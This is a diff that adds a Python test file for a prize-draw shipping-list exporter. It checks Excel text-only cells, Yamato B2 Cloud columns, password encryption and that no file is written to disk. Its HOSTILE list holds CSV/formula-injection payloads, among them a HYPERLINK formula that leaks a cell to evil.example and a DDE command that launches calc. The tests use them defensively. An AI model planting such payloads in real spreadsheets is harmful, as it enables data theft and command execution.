@@ -1,0 +1,356 @@
+"""The shipping list: text in every cell whatever was typed, one password, no file on disk, B2クラウド's columns."""
+
+import io
+import re
+import sys
+import zipfile
+from collections.abc import Iterator
+from datetime import date
+from typing import Any
+from xml.etree import ElementTree
+
+import msoffcrypto
+import openpyxl
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from msoffcrypto.exceptions import InvalidKeyError
+
+from prizedraw import b2cloud
+from prizedraw.claim_code import ALPHABET
+from prizedraw.delivery import Destination
+from prizedraw.errors import Broken
+from prizedraw.shipping_list import Parcel, Table, locked, new_password, table, workbook
+
+DAY = date(2026, 3, 12)
+PRIZE = "B賞 ピンバッジ"
+PLAIN = ("当選コード", "賞品", "氏名", "郵便番号", "住所", "電話番号")
+PASSWORD = "7KQM-4T9X-2HVD-8RPA-C3WN-0EZJ"
+
+
+def destination(**changes: str) -> Destination:
+    return Destination(
+        **{
+            "code": "K7QM-4T9X-2HVD-8",
+            "name": "山田 花子",
+            "postal_code": "１６２－００４１",
+            "address": "東京都新宿区早稲田鶴巻町１２３",
+            "phone": "０９０－１２３４－５６７８",
+            "postal_digits": "1620041",
+            "phone_national": "090-1234-5678",
+            "extension": "",
+        }
+        | changes
+    )
+
+
+def plain(*destinations: Destination) -> bytes:
+    return workbook(table("plain", [Parcel(PRIZE, to) for to in destinations], DAY))
+
+
+def opened(data: bytes, password: str = PASSWORD) -> io.BytesIO:
+    """Unlock a file, its integrity checked, as Excel would."""
+    file, out = msoffcrypto.OfficeFile(io.BytesIO(data)), io.BytesIO()
+    file.load_key(password=password, verify_password=True)
+    file.decrypt(out, verify_integrity=True)
+    return out
+
+
+def cells(data: bytes | io.BytesIO) -> list[list[Any]]:
+    """Read the cells of the one sheet, empty ones as None."""
+    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
+    (sheet,) = book.worksheets
+    return list(sheet.iter_rows())
+
+
+def texts(data: bytes) -> list[tuple[str, ...]]:
+    """Read what each cell says, past every library: `_x000D_` stands for the character of that number."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        strings, sheet = (ElementTree.fromstring(archive.read(f"xl/{name}.xml")) for name in _PARTS)  # noqa: S314
+    shared = [_unescaped(item.findtext(f"{_MAIN}t") or "") for item in strings]
+    rows = [row.findall(f"{_MAIN}c") for row in sheet.iter(f"{_MAIN}row")]
+    return [tuple(shared[int(cell.findtext(f"{_MAIN}v") or "")] for cell in row) for row in rows]
+
+
+_PARTS = ("sharedStrings", "worksheets/sheet1")
+_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+
+def _unescaped(text: str) -> str:
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text)
+
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '＝HYPERLINK("https://evil.example")',
+    "+81901234567",
+    "-1+1",
+    "@SUM(A1)",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    "{=1+1}",
+    "https://evil.example/",
+    "mailto:hanako@example.jp",
+    "internal:Sheet1!A1",
+    "external:c:\\temp\\x.xlsx",
+    "0120",
+    "1e5",
+    "2026-03-12",
+    "TRUE",
+    "#N/A",
+    "_x0041_",
+    "<b>&amp;]]></b>",
+    "𠮷野家 髙﨑①㈱〜－",
+    "葛\U000e0100飾区",
+    "👩‍👩‍👧",
+    "東京都新宿区\n早稲田\r\n鶴巻町",
+    "  前後の空白　",
+    "長" * 32_767,
+]
+
+
+class TestCells:
+    @pytest.mark.parametrize("typed", HOSTILE, ids=lambda typed: ascii(typed[:20]))
+    @pytest.mark.parametrize("field", ["name", "address"])
+    def test_hold_what_was_typed_to_the_letter_as_text(self, field: str, typed: str) -> None:
+        data = plain(destination(**{field: typed}))
+        heading, row = cells(data)
+        assert {cell.data_type for cell in heading + row} == {"s"}
+        assert {cell.number_format for cell in row} == {"@"}
+        assert {cell.hyperlink for cell in row} == {None}
+        assert texts(data)[1][PLAIN.index("氏名" if field == "name" else "住所")] == typed
+
+    def test_the_sheet_holds_no_formula_and_no_link(self) -> None:
+        data = plain(*(destination(name=typed, address=typed, phone=typed) for typed in HOSTILE))
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+            names = archive.namelist()
+        assert "<f" not in sheet.replace("<fonts", "").replace("<fitToPage", "")
+        assert "hyperlink" not in sheet
+        assert re.findall(r'<c r="[A-Z]+\d+"[^>]*?( t="s")?>', sheet) == [' t="s"'] * (6 * (1 + len(HOSTILE)))
+        assert not [name for name in names if "externalLink" in name or "sheet1.xml.rels" in name]
+
+    @given(typed=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=50))
+    def test_whatever_is_typed_comes_back(self, typed: str) -> None:
+        assert texts(plain(destination(address=typed)))[1][4] == typed
+
+    @pytest.mark.parametrize("typed", ["\x00", "\x0b", "\x1f", "\ufffe", "\uffff"])
+    def test_even_a_character_that_xml_forbids_makes_no_broken_file(self, typed: str) -> None:
+        assert texts(plain(destination(name=f"山田{typed}花子")))[1][2] == f"山田{typed}花子"
+
+    def test_a_text_that_no_cell_can_hold_is_not_cut_off_but_refused(self) -> None:
+        assert texts(plain(destination(address="𠮷" * 16_383)))[1][4] == "𠮷" * 16_383
+        for typed in ("長" * 32_768, "𠮷" * 16_384):
+            with pytest.raises(Broken) as caught:
+                plain(destination(address=typed))
+            assert caught.value.problem.code == "E-785"
+
+
+class TestPlainList:
+    def test_has_a_row_a_parcel_in_their_order_as_typed(self) -> None:
+        first, second = destination(), destination(code="0000-0000-0000-0", name="𠮷田 髙﨑")
+        assert texts(plain(first, second)) == [
+            PLAIN,
+            (first.code, PRIZE, first.name, first.postal_code, first.address, first.phone),
+            ("0000-0000-0000-0", PRIZE, "𠮷田 髙﨑", first.postal_code, first.address, first.phone),
+        ]
+
+    def test_can_be_printed(self) -> None:
+        book = openpyxl.load_workbook(io.BytesIO(plain(destination())))
+        sheet = book["発送リスト"]
+        assert (sheet.freeze_panes, sheet.print_title_rows, sheet.page_setup.orientation) == (
+            "A2",
+            "$1:$1",
+            "landscape",
+        )
+        assert sheet.page_setup.fitToWidth in (1, None)
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+
+    def test_rows_are_high_enough_to_show_a_long_address(self) -> None:
+        addresses = ["東京都新宿区１－１", "東京都新宿区" * 10, "東京都\n新宿区\n１－１", "長" * 20_000]
+        typed = [destination(address=address, postal_code="162-0041", phone="090-1234-5678") for address in addresses]
+        sheet = openpyxl.load_workbook(io.BytesIO(plain(*typed))).worksheets[0]
+        assert [sheet.row_dimensions[number].height for number in range(1, 6)] == [None, None, 45, 45, 408.75]
+
+    def test_nothing_of_it_is_doubtful(self) -> None:
+        assert table("plain", [Parcel(PRIZE, destination(address="長" * 300))], DAY).doubtful == 0
+
+
+class TestB2Cloud:
+    """Headings and lengths: https://bmypage.kuronekoyamato.co.jp/bmypage/pdf/new_exchange1.pdf."""
+
+    def row(self, prize: str = PRIZE, **changes: str) -> dict[str, str]:
+        made = table("yamato_b2", [Parcel(prize, destination(**changes))], DAY)
+        assert made.headings == b2cloud.HEADINGS
+        return {name: cell for name, cell in zip(made.headings, made.rows[0], strict=True) if cell}
+
+    def test_has_the_97_columns_of_the_basic_layout(self) -> None:
+        assert len(b2cloud.HEADINGS) == 97
+        places = {2: "送り状種類", 5: "出荷予定日", 9: "お届け先電話番号", 11: "お届け先郵便番号", 12: "お届け先住所"}
+        places |= {16: "お届け先名", 25: "ご依頼主名", 28: "品名1", 33: "記事", 40: "ご請求先顧客コード"}
+        places |= {42: "運賃管理番号", 74: "複数口くくりキー", 95: "投函完了メール（ご依頼主宛）メールメッセージ"}
+        assert {number: b2cloud.HEADINGS[number - 1] for number in places} == places
+
+    def test_fills_what_a_label_needs(self) -> None:
+        assert self.row() == {
+            "お客様管理番号": "K7QM4T9X2HVD8",
+            "送り状種類": "0",
+            "出荷予定日": "2026/03/12",
+            "お届け先電話番号": "090-1234-5678",
+            "お届け先郵便番号": "162-0041",
+            "お届け先住所": "東京都新宿区早稲田鶴巻町１２３",
+            "お届け先名": "山田 花子",
+            "品名1": PRIZE,
+        }
+
+    def test_puts_an_extension_into_the_remarks(self) -> None:
+        assert self.row(extension="123")["記事"] == "内線123"
+
+    @pytest.mark.parametrize(
+        ("typed", "street", "building"),
+        [
+            ("東京都新宿区１－１", "東京都新宿区１－１", ""),
+            ("東京都新宿区１－１ ○○マンション１０１", "東京都新宿区１－１ ○○マンション１０１", ""),
+            ("東京都新宿区\n早稲田鶴巻町１", "東京都新宿区 早稲田鶴巻町１", ""),
+            ("あ" * 32, "あ" * 32, ""),
+            ("あ" * 30 + "　" + "い" * 16, "あ" * 30, "い" * 16),
+            ("あ" * 20 + "\r\n" + "い" * 10 + " " + "う" * 16, "あ" * 20 + " " + "い" * 10, "う" * 16),
+            ("あ" * 20 + " 1-2-3 " + "い" * 12, "あ" * 20 + " 1-2-3", "い" * 12),
+        ],
+    )
+    def test_splits_a_long_address_only_where_it_was_parted(self, typed: str, street: str, building: str) -> None:
+        row = self.row(address=typed)
+        assert (row["お届け先住所"], row.get("お届け先住所（アパートマンション名）", "")) == (street, building)
+        assert b2cloud.fits(b2cloud.row(b2cloud.Slip(PRIZE, DAY, destination(address=typed))))
+
+    @given(typed=st.text("あいう１２ab-12 　\n", min_size=1, max_size=120))
+    def test_loses_nothing_of_an_address(self, typed: str) -> None:
+        street, building = b2cloud.split_address(typed)
+        assert f"{street} {building}".split() == typed.split()
+
+    @pytest.mark.parametrize(
+        "changes",
+        [
+            {"address": "あ" * 33},
+            {"address": "あ" * 30 + " " + "い" * 17},
+            {"name": "あ" * 17},
+            {"name": "𠮷田"},
+            {"address": "葛\U000e0100飾区"},
+        ],
+        ids=["long", "long building", "long name", "not in CP932", "variation selector"],
+    )
+    def test_counts_the_rows_that_must_be_mended_and_cuts_nothing_off(self, changes: dict[str, str]) -> None:
+        made = table("yamato_b2", [Parcel(PRIZE, destination(**changes)), Parcel(PRIZE, destination())], DAY)
+        assert made.doubtful == 1
+        said = "".join(made.rows[0])
+        assert all("".join(value.split()) in said.replace(" ", "") for value in changes.values())
+
+    def test_characters_of_windows_are_no_doubt(self) -> None:
+        made = table("yamato_b2", [Parcel(PRIZE, destination(name="髙﨑①㈱～－"))], DAY)
+        assert made.doubtful == 0
+
+    def test_a_formula_stays_text_here_too(self) -> None:
+        data = workbook(table("yamato_b2", [Parcel(PRIZE, destination(name="=1+1"))], DAY))
+        assert {cell.data_type for row in cells(data) for cell in row if cell.value is not None} == {"s"}
+
+
+@pytest.fixture(scope="module")
+def data() -> bytes:
+    return plain(destination())
+
+
+class TestLock:
+    def test_opens_with_the_password_and_holds_the_list(self, data: bytes) -> None:
+        assert texts(opened(locked(data, PASSWORD)).getvalue()) == texts(data)
+
+    @pytest.mark.parametrize("wrong", [PASSWORD.lower(), PASSWORD[:-1], PASSWORD.replace("-", ""), "password", " "])
+    def test_a_wrong_password_fails(self, wrong: str, data: bytes) -> None:
+        with pytest.raises(InvalidKeyError):
+            opened(locked(data, PASSWORD), wrong)
+
+    def test_is_agile_encryption_with_aes_256_and_sha_512(self, data: bytes) -> None:
+        file: Any = msoffcrypto.OfficeFile(io.BytesIO(locked(data, PASSWORD)))
+        assert (file.format, file.type) == ("ooxml", "agile")
+        info = file.info
+        assert (info["passwordKeyBits"], info["passwordHashAlgorithm"]) == (256, "SHA512")
+        assert info["spinValue"] >= 100_000
+
+    def test_shows_nothing_of_the_list(self, data: bytes) -> None:
+        sealed = locked(data, PASSWORD)
+        for word in ("山田", "早稲田", "090", "sharedStrings", PASSWORD):
+            assert word.encode() not in sealed
+            assert word.encode("utf-16-le") not in sealed
+
+    def test_differs_each_time(self, data: bytes) -> None:
+        assert locked(data, PASSWORD) != locked(data, PASSWORD)
+
+    def test_passwords_are_long_readable_and_never_the_same(self) -> None:
+        made = {new_password() for _ in range(200)}
+        assert len(made) == 200
+        assert all(re.fullmatch(rf"(?:[{ALPHABET}]{{4}}-){{5}}[{ALPHABET}]{{4}}", password) for password in made)
+        assert len(set("".join(made)) - {"-"}) == 32
+
+
+# Nothing on disk. An audit hook cannot be taken away again, so that it is switched off.
+
+_written: list[str] | None = None
+
+
+def _watch(event: str, arguments: tuple[Any, ...]) -> None:
+    if _written is None:
+        return
+    if event.startswith("tempfile.") or (event == "open" and _for_writing(arguments)):
+        _written.append(f"{event} {arguments[0]}")
+
+
+def _for_writing(arguments: tuple[Any, ...]) -> bool:
+    _, mode, flags = arguments
+    return bool(set(mode or "") & set("wax+")) or bool((flags or 0) & 3)
+
+
+sys.addaudithook(_watch)
+
+
+@pytest.fixture
+def written() -> Iterator[list[str]]:
+    global _written  # noqa: PLW0603
+    _written = []
+    try:
+        yield _written
+    finally:
+        _written = None
+
+
+def test_no_file_is_written_on_the_way(written: list[str]) -> None:
+    parcels = [Parcel(PRIZE, destination(name=f"山田 {number}")) for number in range(3_000)]
+    locked(workbook(table("plain", parcels, DAY)), PASSWORD)
+    assert written == []
+
+
+def test_the_watch_sees_files(written: list[str], tmp_path: Any) -> None:
+    import tempfile  # noqa: PLC0415
+
+    (tmp_path / "a").write_bytes(b"1")
+    with tempfile.TemporaryFile():
+        pass
+    assert any(entry.startswith("tempfile.") for entry in written) or len(written) > 1
+    assert any(entry.startswith("open") for entry in written)
+
+
+def test_personal_data_is_not_shown() -> None:
+    shown = repr(Parcel(PRIZE, destination())) + repr(table("plain", [Parcel(PRIZE, destination())], DAY))
+    shown += repr(b2cloud.Slip(PRIZE, DAY, destination()))
+    for word in ("山田", "早稲田", "1620041", "090", "K7QM"):
+        assert word not in shown
+
+
+def test_a_table_without_rows_is_a_file_with_headings() -> None:
+    assert texts(workbook(Table(("a", "b"), (), (5, 5)))) == [("a", "b")]
